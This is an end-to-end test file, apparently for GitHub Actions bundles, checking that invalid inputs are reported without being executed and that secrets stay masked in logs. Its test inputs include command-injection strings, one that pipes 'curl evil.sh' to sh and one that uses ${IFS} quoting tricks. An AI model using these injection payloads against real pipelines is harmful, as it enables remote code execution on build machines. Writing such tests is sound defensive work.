// Bad input as the bundles see it: named with its value and the expected form, never executed, and
// a secret given as input never printed — not even in the error about it. (This file held the
// "not implemented yet" checks while actions were placeholders; every action's behaviour has landed.)
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { e2e } from '../harness/e2e.ts';
import { startGitHubEmulator, type GitHubEmulator } from '../harness/github/index.ts';

const TOKEN = 'ghs_e2eTokenThatMustNeverAppear0123456789';

let github: GitHubEmulator;
before(async () => {
  github = await startGitHubEmulator();
  github.seed.repo('octo/app');
  github.seed.token(TOKEN);
});
after(() => github.close());

test('bad inputs are named with the value and the expected form, and untrusted values stay data', async (t) => {
  const h = e2e(t);
  const r = await h.run({
    action: 'deploy',
    inputs: { environment: 'prod"; curl evil.sh | sh; "', run: 'echo hi', ref: 'zzz";echo${IFS}"hello";#', retries: 'lots' },
    token: TOKEN,
    env: { GITHUB_API_URL: github.url },
  });
  assert.equal(r.exitCode, 1);
  const message = r.annotations.find((a) => a.level === 'error')?.message ?? '';
  // The ref is a valid branch name (GitHub's own example of one): accepted, and only ever data.
  assert.match(message, /2 inputs are invalid/);
  assert.match(message, /Input 'environment' has value "prod\\"; curl evil.sh \| sh; \\""; expected an environment name/);
  assert.doesNotMatch(message, /'ref'/);
  assert.match(message, /Input 'retries' has value "lots"; expected an integer from 0 to 10/);
  assert.ok(!r.stdout.includes('\nhello\n'), 'nothing was executed');
});

test('a secret given as input never reaches the log, even in an error about it', async (t) => {
  const h = e2e(t);
  const value = h.secret('abc'.repeat(2) + '-tooLongForNothing'); // registered before any log line
  const r = await h.run({
    action: 'rotate-secret',
    inputs: { name: '1BAD', destinations: 'github:repo', value, 'target-url': 'postgres://admin:Sup3r-Secret@127.0.0.1/db' },
    token: TOKEN,
    env: { GITHUB_API_URL: github.url },
  });
  assert.equal(r.exitCode, 1);
  assert.match(r.annotations.find((a) => a.level === 'error')?.message ?? '', /Input 'name' has value "1BAD"/);
  assert.ok(r.masks.includes(value), 'the value was registered with the runner');
  assert.ok(r.masks.includes(TOKEN), 'the token was registered with the runner');
});
